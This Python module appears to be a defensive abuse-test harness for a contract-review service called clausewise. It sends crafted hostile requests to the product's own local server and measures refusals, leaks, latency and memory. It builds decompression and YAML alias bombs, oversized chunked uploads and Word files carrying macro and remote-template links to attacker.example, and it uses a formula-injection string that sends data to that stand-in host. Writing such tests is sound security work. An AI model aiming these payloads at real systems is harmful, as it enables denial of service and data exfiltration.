"""Abuse families against a live ``clausewise serve`` process (issue 57's measures): each family
is one kind of hostile request sent ``rounds`` times at ``concurrency`` by tenant ``acme``, while
tenant ``beta`` lists its contracts every 50 ms. Per family: unexpected statuses, responses that
show a server path or the other tenant's names, the other tenant's p95 latency, and the server's
peak resident memory (with its page drawing processes) over its idle size; after all of them,
whether acme's contract is still there, unchanged (nothing lost).

The server runs with tight limits so each abuse is cheap to send and quick to refuse:
``parsing.max_parse_seconds`` 1, ``parsing.max_unpacked_mb`` 3, ``parsing.max_file_mb`` 2,
``service.page_image_cpu_seconds`` 1.
Bounded: ``rounds`` requests per family, ``SECONDS`` in all.
"""

from __future__ import annotations

import io
import json
import select
import socket
import sqlite3
import statistics
import threading
import time
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx

from clausewise.core.config import Settings, with_overrides
from clausewise.core.progress import NoProgress, Progress
from clausewise.service.keys import KeyStore
from clausewise_lab import EXAMPLES
from clausewise_lab.evals.processes import ServeProcess, ended_job, status_kb

SECONDS = 900.0
#: The longest wait for one job of a family (or of the set-up) to end.
JOB_SECONDS = 300.0
#: How soon a stream must end once its key is revoked (the stream re-checks its key every second).
REVOKED_STREAM_SECONDS = 3.0
SERVER_LIMITS = [
    "--parsing.max-parse-seconds",
    "1",
    "--parsing.max-unpacked-mb",
    "3",
    "--parsing.max-file-mb",
    "2",
    "--service.page-image-cpu-seconds",
    "1",
]


def word_file_with(body: bytes) -> bytes:
    """A real Word file (python-docx's template) whose body ends with ``body``."""
    from docx import Document

    made = io.BytesIO()
    Document().save(made)
    out = io.BytesIO()
    with zipfile.ZipFile(made) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/document.xml":
                data = data.replace(b"</w:body>", body + b"</w:body>")
            target.writestr(item.filename, data)
    return out.getvalue()


_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
#: (id, type, target, external) of the relationships :func:`active_word_file` adds to the body.
_ACTIVE_RELS = (
    (
        "rIdMacro",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
        False,
    ),
    ("rIdPicture", f"{_REL}/image", "http://attacker.example/pixel.png", True),
    ("rIdLink", f"{_REL}/hyperlink", "http://attacker.example/track", True),
)
_HIDDEN_RELS = (
    ("rIdChunk", f"{_REL}/aFChunk", "afchunk.htm", False),
    ("rIdSub", f"{_REL}/subDocument", "http://attacker.example/part.docx", True),
)


def active_word_file(clauses: list[str], *, hidden: bool = False) -> bytes:
    """A Word file of ``clauses`` (one paragraph each) that also carries what can act or fetch
    when it is opened: a macro project (``vbaProject.bin``), a remote ``attachedTemplate``, an
    external picture and hyperlink, an ``INCLUDETEXT`` field (complex, its result "Included
    text.") and a simple one (result "Simple text."), and ``updateFields``. With ``hidden``, also
    text Word shows that is not in the body: an ``altChunk`` (an HTML part) and a ``subDoc``."""
    from xml.sax.saxutils import escape

    def run(text: str) -> str:
        return f'<w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r>'

    body = "".join(f"<w:p>{run(clause)}</w:p>" for clause in clauses)
    body += (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> INCLUDETEXT "http://attacker.example/x.docx" '
        "</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + run("Included text.")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://attacker.example/y&quot; ">'
        + run("Simple text.")
        + "</w:fldSimple></w:p>"
        '<w:p><w:hyperlink r:id="rIdLink">' + run("See our terms.") + "</w:hyperlink></w:p>"
        '<w:p><w:r><w:pict><v:shape style="width:1pt;height:1pt"><v:imagedata r:id="rIdPicture"/>'
        "</v:shape></w:pict></w:r></w:p>"
    )
    rels = list(_ACTIVE_RELS)
    if hidden:
        body += '<w:altChunk r:id="rIdChunk"/><w:p><w:subDoc r:id="rIdSub"/></w:p>'
        rels += list(_HIDDEN_RELS)
    data = word_file_with(body.encode())
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            part = source.read(item.filename)
            if item.filename == "word/_rels/document.xml.rels":
                added = "".join(
                    f'<Relationship Id="{rid}" Type="{kind}" Target="{where}"'
                    + (' TargetMode="External"' if external else "")
                    + "/>"
                    for rid, kind, where, external in rels
                )
                part = part.replace(b"</Relationships>", added.encode() + b"</Relationships>")
            elif item.filename == "word/settings.xml":
                part = part.replace(
                    b"<w:zoom",
                    b'<w:attachedTemplate r:id="rIdTemplate"/><w:updateFields w:val="true"/><w:zoom',
                    1,
                )
            elif item.filename == "[Content_Types].xml":
                extra = (
                    '<Override PartName="/word/vbaProject.bin" '
                    'ContentType="application/vnd.ms-office.vbaProject"/>'
                    '<Default Extension="htm" ContentType="text/html"/>'
                )
                part = part.replace(b"</Types>", extra.encode() + b"</Types>")
            target.writestr(item.filename, part)
        target.writestr(
            "word/_rels/settings.xml.rels",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rIdTemplate" Type="{_REL}/attachedTemplate" '
            'Target="http://attacker.example/template.dotm" TargetMode="External"/></Relationships>',
        )
        target.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 not a real macro project")
        if hidden:
            target.writestr("word/afchunk.htm", "<html><body><p>Hidden clause Word shows.</p></body></html>")
    return out.getvalue()


def slow_to_draw_pdf(paths: int = 40_000) -> bytes:
    """A one-page PDF with a readable clause (so it is not OCR'd) under ``paths`` crossing vector
    strokes: cheap to store and to read, many CPU seconds to draw (40,000 took over ten)."""
    import pymupdf

    clause = (
        "This Agreement is governed by the laws of England. Each party submits to the exclusive "
        "jurisdiction of the courts of London for any dispute arising out of this Agreement. "
    )
    with pymupdf.open() as document:
        page = document.new_page(width=612, height=792)
        page.insert_textbox(pymupdf.Rect(72, 72, 540, 300), clause * 3, fontsize=11)
        strokes = "".join(
            f"{i * 7 % 600} {i * 13 % 780} m {i * 11 % 600} {i * 17 % 780} l S\n" for i in range(paths)
        )
        xref = page.get_contents()[0]
        document.update_stream(xref, document.xref_stream(xref) + b"\n0.1 w\n" + strokes.encode())
        return document.tobytes()


def status_of_head(url: str, head: str) -> int:
    """Send a request's head only (no body follows) and read the status: answered on the headers
    alone, or 0 when the server waits for a body instead."""
    parts = urlsplit(url)
    with socket.create_connection((parts.hostname, parts.port), timeout=10) as raw:
        raw.sendall(head.replace("\n", "\r\n").encode("latin-1") + b"\r\n")
        try:
            return int(raw.recv(64).split(b" ")[1])
        except (TimeoutError, IndexError, ValueError):
            return 0


def status_of_chunked_upload(url: str, key: str, total: int, chunk: int = 1 << 16) -> Answer:
    """POST an upload of ``total`` bytes with ``Transfer-Encoding: chunked`` (no size announced)
    and read the status the server answers with, as soon as it answers; the bytes sent before
    then are in the text (``sent N``). 0 when the server took every byte and answered nothing."""
    parts = urlsplit(url)
    head = (
        f"POST /v1/contracts HTTP/1.1\r\nHost: {parts.netloc}\r\nAuthorization: Bearer {key}\r\n"
        "Content-Type: multipart/form-data; boundary=b\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    opening = b'--b\r\nContent-Disposition: form-data; name="file"; filename="huge.txt"\r\n\r\n'
    piece = b"The Supplier shall deliver the Goods. " * (chunk // 38)
    sent = 0
    with socket.create_connection((parts.hostname, parts.port), timeout=30) as raw:
        raw.sendall(head.encode("latin-1") + b"%x\r\n%s\r\n" % (len(opening), opening))
        try:
            while sent < total:
                raw.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
                sent += len(piece)
                if select.select([raw], [], [], 0)[0]:
                    break  # the server answered before the end: read it
        except (BrokenPipeError, ConnectionResetError):
            pass  # it answered and closed: the answer may still be read
        try:
            answer = raw.recv(4096)
        except (ConnectionResetError, TimeoutError):
            answer = b""
    try:
        return int(answer.split(b" ")[1]), f"sent {sent}"
    except (IndexError, ValueError):
        return 0, f"sent {sent}, no answer"


def alias_bomb(copies: int = 5_000, width: int = 20_000) -> str:
    """A playbook of 40 KB whose one anchor, repeated ``copies`` times by aliases, would expand
    to ``copies * width`` characters (100 MB by default) once serialised."""
    return (
        "name: alias-bomb\nversion: '1'\npositions:\n- id: cap\n  clause: Cap on Liability\n"
        "  standard: {require: present}\n  risk: high\n"
        f"  examples: [&s {'x' * width}, " + ", ".join(["*s"] * copies) + "]\n"
    )


def deep_playbook(levels: int = 3_000) -> str:
    """A playbook of about 10 KB nested ``levels`` lists deep."""
    return "name: deep\nversion: '1'\npositions: " + "[" * levels + "]" * levels + "\n"


def largest_playbook(name: str, chars: int = 190_000) -> str:
    """A valid playbook of about ``chars`` characters (under the 200,000 allowed), written out
    in full: the most a client may store and have reviewed."""
    example = "The Supplier's total liability shall not exceed the fees paid in the twelve months. "
    lines = [f"  - {example}"] * (chars // (len(example) + 5))
    return (
        f"name: {name}\nversion: '1'\npositions:\n- id: cap\n  clause: Cap on Liability\n"
        "  standard: {require: present}\n  risk: high\n  examples:\n" + "\n".join(lines) + "\n"
    )


def positions_of(version: str, risk: str) -> str:
    """A small playbook ``race`` at ``version`` whose one position has ``risk``."""
    return (
        f"name: race\nversion: '{version}'\npositions:\n- id: law\n  clause: Governing Law\n"
        f"  standard: {{law: [England]}}\n  risk: {risk}\n"
    )


#: What must never be in a redline we hand back: macros, ActiveX, links outside the file,
#: a remote template, fields that fetch, fields updated on opening.
_ACTIVE_MARKS = (b"vbaProject", b"activeX", b'TargetMode="External"', b"attachedTemplate", b"INCLUDETEXT")


def active_parts(docx: bytes) -> list[str]:
    """The parts of a Word file that hold active or external content (read with zipfile, not
    with the product's reader)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        for name in archive.namelist():
            data = archive.read(name)
            if "vbaProject" in name or any(mark in data for mark in _ACTIVE_MARKS) or b"updateFields" in data:
                found.append(name)
    return found


Answer = tuple[int, str]  # (status, text); a family's own failure (a live formula, a stream that
# outlived its key) is reported as status 0, which no family expects


@dataclass(frozen=True)
class Family:
    name: str
    expected: frozenset[int]
    send: Callable[[httpx.Client, str, str], Answer]  # (client, url, acme's key) -> (status, text)
    #: after every round: how many of the answers lost or mixed up what was sent (None: nothing to count)
    lost: Callable[[httpx.Client, list[Answer]], int] | None = None


_FORMULA = '=HYPERLINK("http://attacker.example/?leak","click")'
_FORMULA_START = ("=", "+", "-", "@")


def live_formulas(csv_text: str, xlsx: bytes) -> int:
    """Cells a spreadsheet would run: CSV cells starting like a formula, XLSX cells typed as one
    (read here with the csv module and openpyxl, not with the product's writer)."""
    import csv

    from openpyxl import load_workbook

    cells = [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
    live = sum(cell.startswith(_FORMULA_START) for cell in cells)
    workbook = load_workbook(io.BytesIO(xlsx))
    for sheet in workbook.worksheets:
        live += sum(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    return live


def _families(keys: KeyStore, review: str) -> list[Family]:
    """Every family; ``review``: the id of set-up's finished playbook review (of acme-active and
    acme-controls), whose redlines two families ask for."""
    slow = word_file_with(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 40_000)
    bomb = word_file_with(b"<w:p/>" * 600_000)
    malformed = word_file_with(b"<w:p><w:r><w:t>unclosed</w:r></w:p>")

    def upload(data: bytes, name: str) -> Callable[[httpx.Client, str, str], tuple[int, str]]:
        def send(client: httpx.Client, _url: str, _key: str) -> tuple[int, str]:
            response = client.post("/v1/contracts", files={"file": (name, data)})
            return response.status_code, response.text

        return send

    def headers_only(head: str, keyed: bool) -> Callable[[httpx.Client, str, str], tuple[int, str]]:
        def send(_client: httpx.Client, url: str, key: str) -> tuple[int, str]:
            host = urlsplit(url).netloc
            auth = f"Authorization: Bearer {key}\n" if keyed else ""
            return status_of_head(url, head.format(host=host) + auth), ""

        return send

    def request(method: str, path: str, **kwargs: Any) -> Callable[[httpx.Client, str, str], tuple[int, str]]:
        def send(client: httpx.Client, _url: str, _key: str) -> tuple[int, str]:
            response = client.request(method, path, **kwargs)
            return response.status_code, response.text

        return send

    def formula_export(client: httpx.Client, _url: str, _key: str) -> Answer:
        queued = client.post("/v1/checks", json={"contracts": ["acme-nda"], "hypotheses": [_FORMULA]})
        if queued.status_code != 202:
            return queued.status_code, queued.text
        job = ended_job(client, queued.json()["id"], time.monotonic() + JOB_SECONDS)["id"]
        as_csv = client.get(f"/v1/jobs/{job}/result", params={"format": "csv"})
        as_xlsx = client.get(f"/v1/jobs/{job}/result", params={"format": "xlsx"})
        if as_csv.status_code != 200 or as_xlsx.status_code != 200:
            return max(as_csv.status_code, as_xlsx.status_code), as_csv.text
        return (0 if live_formulas(as_csv.text, as_xlsx.content) else 200), as_csv.text

    def revoked_mid_stream(client: httpx.Client, url: str, _key: str) -> Answer:
        """A key revoked while its stream of a running job is open: the stream must end within
        REVOKED_STREAM_SECONDS with an ``error`` event (status 0 otherwise)."""
        info, secret = keys.create("acme", "revoked mid-stream")
        headers = {"Authorization": f"Bearer {secret}"}
        with httpx.Client(base_url=url, headers=headers, timeout=30) as mine:
            queued = mine.post("/v1/checks", json={"contracts": ["acme-nda"], "suite": "nda"})
            if queued.status_code != 202:
                return queued.status_code, queued.text
            revoked: list[float] = []
            timer = threading.Timer(0.5, lambda: (keys.revoke(info.id), revoked.append(time.monotonic())))
            events = []
            with mine.stream("GET", f"/v1/jobs/{queued.json()['id']}/events") as stream:
                timer.start()
                events = [line for line in stream.iter_lines() if line.startswith("event:")]
            timer.join()
            ended = time.monotonic() - revoked[0] if revoked else None
        errored = bool(events) and events[-1].split(":", 1)[1].strip() == "error"
        in_time = ended is not None and ended <= REVOKED_STREAM_SECONDS
        return (200 if errored and in_time else 0), ""

    nda = (EXAMPLES / "mutual-nda.txt").read_text(encoding="utf-8")
    colliding_names = ("§§§.txt", "合同.txt", "契約.txt", "###.txt")
    sent = iter(range(1_000_000))

    def colliding_upload(client: httpx.Client, _url: str, _key: str) -> Answer:
        number = next(sent)
        text = nda + f"\n\nSchedule {number}: marker-{number:06d}.\n"
        name = colliding_names[number % len(colliding_names)]
        response = client.post("/v1/contracts", files={"file": (name, text.encode())})
        return response.status_code, f"marker-{number:06d} " + response.text

    def mixed_up(client: httpx.Client, answers: list[Answer]) -> int:
        """Uploads accepted (202) whose contract is missing, shared with another upload, or
        holds another upload's text."""
        problems, owners = 0, {}
        for status, text in answers:
            if status != 202:
                continue
            marker, body = text.split(" ", 1)
            job = ended_job(client, json.loads(body)["job"]["id"], time.monotonic() + JOB_SECONDS)
            contract = (job.get("result") or {}).get("contract_id")
            if job["status"] != "done" or contract is None or contract in owners:
                problems += 1
                continue
            owners[contract] = marker
            problems += marker not in client.get(f"/v1/contracts/{contract}/text").text
        return problems

    def chunked(_client: httpx.Client, url: str, key: str) -> Answer:
        return status_of_chunked_upload(url, key, 315 * 1024 * 1024)

    def redline(contract: str, author: str) -> Callable[[httpx.Client, str, str], Answer]:
        """The redline of set-up's review of ``contract``: 200 when it is a Word file with nothing
        active in it (0 otherwise)."""

        def send(client: httpx.Client, _url: str, _key: str) -> Answer:
            response = client.get(
                f"/v1/playbook-reviews/{review}/redline", params={"contract": contract, "author": author}
            )
            if response.status_code != 200:
                return response.status_code, response.text
            left = active_parts(response.content)
            return (0 if left else 200), f"active parts left: {left}" if left else ""

        return send

    raced = iter(range(1_000_000))

    def same_version_at_once(client: httpx.Client, _url: str, _key: str) -> Answer:
        """Two playbooks of one name and version, different positions, sent at once: 201 when
        one was kept (201) and the other refused (409) and the kept one reads back as sent, 0
        otherwise."""
        version = f"race-{next(raced)}"
        sent = {"low": positions_of(version, "low"), "high": positions_of(version, "high")}
        with ThreadPoolExecutor(max_workers=2) as pair:
            answers = dict(
                zip(
                    sent,
                    pair.map(lambda text: client.post("/v1/playbooks", json={"yaml": text}), sent.values()),
                    strict=True,
                )
            )
        statuses = sorted(a.status_code for a in answers.values())
        if statuses != [201, 409]:
            return 0, f"statuses {statuses}"
        winner = next(risk for risk, answer in answers.items() if answer.status_code == 201)
        kept = client.get("/v1/playbooks/race", params={"version": version}).json()
        return (201 if kept["positions"][0]["risk"] == winner else 0), ""

    largest = largest_playbook("largest")

    def largest_allowed(client: httpx.Client, _url: str, _key: str) -> Answer:
        """The largest playbook allowed: stored, read back, reviewed inline, and the jobs listed.
        200 when each answers as it should; the text is the largest of the four responses."""
        answers = [
            client.post("/v1/playbooks", json={"yaml": largest}),
            client.get("/v1/playbooks/largest"),
            client.post("/v1/playbook-reviews", json={"contracts": ["acme-nda"], "yaml": largest}),
            client.get("/v1/jobs", params={"limit": 1000}),
        ]
        wanted = [201, 200, 202, 200]
        odd = [a.status_code for a, w in zip(answers, wanted, strict=True) if a.status_code != w]
        biggest = max(answers, key=lambda a: len(a.content)).text
        return (odd[0] if odd else 200), biggest

    multipart = "POST /v1/contracts HTTP/1.1\nHost: {host}\nContent-Type: multipart/form-data; boundary=b\n"
    chat = {
        "model": "clausewise/acme-nda",
        "messages": [{"role": "system", "content": "Be brief. " * 1000}, {"role": "user", "content": "Law?"}],
    }
    return [
        Family(
            "a 256 MB body without a key",
            frozenset({401}),
            headers_only(multipart + "Content-Length: 268435456\n", False),
        ),
        Family(
            "a 300 MB upload announced",
            frozenset({413}),
            headers_only(multipart + "Content-Length: 314572800\n", True),
        ),
        Family(
            "a foreign Host",
            frozenset({421}),
            request("GET", "/v1/contracts", headers={"Host": "attacker.example"}),
        ),
        Family(
            "a cross-site POST",
            frozenset({403}),
            request(
                "POST",
                "/v1/threads",
                json={"contract": "acme-nda"},
                headers={"Origin": "http://attacker.example"},
            ),
        ),
        Family("a Word file slow to read", frozenset({422}), upload(slow, "slow.docx")),
        Family("an XML bomb", frozenset({413}), upload(bomb, "bomb.docx")),
        Family("malformed Word XML", frozenset({422}), upload(malformed, "malformed.docx")),
        Family(
            "a 10,000-character system message",
            frozenset({422}),
            request("POST", "/v1/chat/completions", json=chat),
        ),
        Family(
            "a revoked-looking key",
            frozenset({401}),
            request("GET", "/v1/contracts", headers={"Authorization": "Bearer cw_00000000_" + "0" * 43}),
        ),
        Family(
            "a 14,400 pt page's image",
            frozenset({200}),
            request("GET", "/v1/contracts/acme-poster/pages/1/image"),
        ),
        Family(
            "a page built to be slow to draw",
            frozenset({422}),
            request("GET", "/v1/contracts/acme-strokes/pages/1/image"),
        ),
        Family("a key revoked while its stream is open", frozenset({200}), revoked_mid_stream),
        Family("a hypothesis written as a formula, exported", frozenset({200}), formula_export),
        Family(
            "different files whose names make the same id, at once",
            frozenset({202, 409}),
            colliding_upload,
            lost=mixed_up,
        ),
        Family(
            "a playbook whose aliases multiply it, stored",
            frozenset({422}),
            request("POST", "/v1/playbooks", json={"yaml": alias_bomb()}),
        ),
        Family(
            "a playbook whose aliases multiply it, inline in a review",
            frozenset({422}),
            request("POST", "/v1/playbook-reviews", json={"contracts": ["acme-nda"], "yaml": alias_bomb()}),
        ),
        Family(
            "a playbook nested 3,000 deep",
            frozenset({422}),
            request("POST", "/v1/playbooks", json={"yaml": deep_playbook()}),
        ),
        Family("a 315 MB upload sent chunked", frozenset({413}), chunked),
        Family(
            "a Word file with text outside its body",
            frozenset({422}),
            upload(
                active_word_file(["1. The Supplier shall deliver the Goods."], hidden=True), "hidden.docx"
            ),
        ),
        Family(
            "the redline of a Word file with active content",
            frozenset({200}),
            redline("acme-active", "Counsel"),
        ),
        Family(
            "control characters in a redline's author and its contract's title",
            frozenset({200}),
            redline("acme-controls", "\x01x\x1b[31m"),
        ),
        Family("one playbook version sent twice at once", frozenset({201}), same_version_at_once),
        Family("the largest playbook allowed, stored, read and reviewed", frozenset({200}), largest_allowed),
        Family(
            "a queue flood",
            frozenset({202, 429}),
            request("POST", "/v1/checks", json={"contracts": ["acme-nda"], "suite": "nda"}),
        ),
    ]


def _clauses(text: bytes) -> list[str]:
    """The non-empty lines of a text contract, as the paragraphs of a Word file."""
    return [line.strip() for line in text.decode("utf-8").splitlines() if line.strip()]


def largest_job_row(data_dir: Path) -> int:
    """The most bytes one job takes in the service's job store (its request and result), read
    from the SQLite file itself."""
    path = data_dir / "service" / "jobs.sqlite"
    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as connection:
        row = connection.execute(
            "SELECT MAX(LENGTH(CAST(request AS BLOB)) + COALESCE(LENGTH(CAST(result AS BLOB)), 0)) FROM jobs"
        ).fetchone()
    return int(row[0] or 0)


def _poster() -> bytes:
    """A one-page PDF drawn 14,400 points square (its image at the viewer's scale was a 500)."""
    import pymupdf

    with pymupdf.open() as document:
        page = document.new_page(width=14400, height=14400)
        page.insert_text((72, 144), "This Agreement is governed by the laws of England.", fontsize=48)
        return document.tobytes()


def _rss_mb(pid: int) -> float:
    """The resident memory of the server ``pid`` and of every process under it (its page drawing
    workers), in MB."""
    own = status_kb(pid, "VmRSS")
    if own is None:
        raise RuntimeError("no VmRSS in /proc: memory is measured on Linux only")
    return (own + sum(status_kb(child, "VmRSS") or 0 for child in _descendants(pid))) / 1024


def _descendants(pid: int) -> list[int]:
    """The processes under ``pid``, read from /proc (one that ends while being read is left out)."""
    children: list[int] = []
    for task in Path(f"/proc/{pid}/task").glob("*"):
        try:
            children.extend(int(child) for child in (task / "children").read_text().split())
        except (FileNotFoundError, ProcessLookupError):
            continue
    return children + [grandchild for child in children for grandchild in _descendants(child)]


def _p95(values: list[float]) -> float | None:
    if not values:
        return None
    ordered = sorted(values)
    return round(ordered[min(len(ordered) - 1, int(0.95 * len(ordered)))], 3)


def run(
    settings: Settings,
    data_dir: Path,
    *,
    rounds: int = 20,
    concurrency: int = 4,
    progress: Progress | None = None,
) -> dict[str, Any]:
    """Every family against a ``clausewise serve`` process on ``data_dir`` (see the module)."""
    progress = progress or NoProgress()
    deadline = time.monotonic() + SECONDS
    settings = with_overrides(settings, {"paths": {"data_dir": str(data_dir), "tenant": "default"}})
    keys = KeyStore.of(settings)
    acme, beta = keys.create("acme", "eval abuse")[1], keys.create("beta", "eval abuse")[1]
    rows: list[dict[str, Any]] = []
    with ServeProcess(settings, data_dir / "serve.log", extra=SERVER_LIMITS) as server:
        assert server.process is not None
        pid = server.process.pid
        owner = httpx.Client(base_url=server.url, timeout=60, headers={"Authorization": f"Bearer {acme}"})
        other = httpx.Client(base_url=server.url, timeout=60, headers={"Authorization": f"Bearer {beta}"})
        try:
            nda = (EXAMPLES / "mutual-nda.txt").read_bytes()
            ingest = owner.post(
                "/v1/contracts", files={"file": ("nda.txt", nda)}, data={"contract_id": "acme-nda"}
            )
            job = ingest.json()["job"]["id"]
            ended_job(owner, job, time.monotonic() + JOB_SECONDS)
            poster = owner.post(
                "/v1/contracts",
                files={"file": ("poster.pdf", _poster())},
                data={"contract_id": "acme-poster"},
            ).json()["job"]["id"]
            strokes = owner.post(
                "/v1/contracts",
                files={"file": ("strokes.pdf", slow_to_draw_pdf())},
                data={"contract_id": "acme-strokes"},
            ).json()["job"]["id"]
            theirs = other.post(
                "/v1/contracts", files={"file": ("beta.txt", nda)}, data={"contract_id": "beta-nda"}
            ).json()["job"]["id"]
            active = owner.post(
                "/v1/contracts",
                files={"file": ("active.docx", active_word_file(_clauses(nda)))},
                data={"contract_id": "acme-active"},
            ).json()["job"]["id"]
            controls = owner.post(
                "/v1/contracts",
                files={"file": ("controls.txt", b"\x01\x02\x1b[31mSUPPLY AGREEMENT\n\n" + nda)},
                data={"contract_id": "acme-controls"},
            ).json()["job"]["id"]
            for client, waited in (
                (owner, poster),
                (owner, strokes),
                (other, theirs),
                (owner, active),
                (owner, controls),
            ):
                ended_job(client, waited, time.monotonic() + JOB_SECONDS)
            review = owner.post(
                "/v1/playbook-reviews",
                json={"contracts": ["acme-active", "acme-controls"], "playbook": "playbook-nda"},
            ).json()["id"]
            ended_job(owner, review, time.monotonic() + JOB_SECONDS)
            before = owner.get("/v1/contracts/acme-nda/text").text
            for family in _families(keys, review):
                if time.monotonic() > deadline:
                    break
                progress.stage(f"abuse: {family.name}, {rounds} at {concurrency}")
                rows.append(
                    _one_family(family, server.url, owner, other, acme, pid, rounds, concurrency, data_dir)
                )
            after = owner.get("/v1/contracts/acme-nda/text").text
            # after the flood: the other tenant's job is next among its own, whatever acme queued;
            # one a free worker took at once has no queue position, and is next all the same
            turn = other.post("/v1/checks", json={"contracts": ["beta-nda"], "suite": "nda"}).json()
            started = {"running": 0, "done": 0}
            queue_position = (
                turn.get("queue_position")
                if turn.get("status") == "queued"
                else started.get(turn.get("status"))
            )
            for queued in owner.get("/v1/jobs?limit=1000").json()["jobs"]:
                if queued["status"] in ("queued", "running"):
                    owner.post(f"/v1/jobs/{queued['id']}/cancel")
        finally:
            owner.close()
            other.close()
    return {
        "rounds": rounds,
        "concurrency": concurrency,
        "families": rows,
        "largest_response_bytes": max((r["largest_response_bytes"] for r in rows), default=0),
        "largest_job_row_bytes": largest_job_row(data_dir),
        "unexpected_statuses": sum(r["unexpected"] for r in rows),
        "leaks": sum(r["leaks"] for r in rows),
        "lost": int(before != after) + sum(r["lost"] for r in rows),
        "other_tenant_queue_position_after_flood": queue_position,  # 0: started at once
        "other_tenant_p95_max": max((r["other_p95_s"] or 0.0 for r in rows), default=None),
        "peak_over_idle_max_mb": max((r["peak_over_idle_mb"] for r in rows), default=None),
    }


def _one_family(
    family: Family,
    url: str,
    owner: httpx.Client,
    other: httpx.Client,
    key: str,
    pid: int,
    rounds: int,
    concurrency: int,
    data_dir: Path,
) -> dict[str, Any]:
    idle = _rss_mb(pid)
    peak = idle
    latencies: list[float] = []
    running = threading.Event()
    running.set()

    def watch() -> None:
        nonlocal peak
        while running.is_set():
            started = time.perf_counter()
            other.get("/v1/contracts")
            latencies.append(time.perf_counter() - started)
            peak = max(peak, _rss_mb(pid))
            time.sleep(0.05)

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    with ThreadPoolExecutor(max_workers=concurrency) as pool:
        answers = list(pool.map(lambda _n: family.send(owner, url, key), range(rounds)))
    running.clear()
    watcher.join(30)
    statuses = [status for status, _ in answers]
    shown = [text for _, text in answers if str(data_dir) in text or "beta-nda" in text]
    lost = family.lost(owner, answers) if family.lost is not None else 0
    return {
        "family": family.name,
        "requests": len(answers),
        "statuses": sorted(set(statuses)),
        "largest_response_bytes": max((len(text.encode("utf-8")) for _, text in answers), default=0),
        "unexpected": sum(status not in family.expected for status in statuses),
        "leaks": len(shown),
        "lost": lost,
        "other_requests": len(latencies),
        "other_p95_s": _p95(latencies),
        "other_median_s": round(statistics.median(latencies), 3) if latencies else None,
        "peak_over_idle_mb": round(peak - idle, 1),
    }
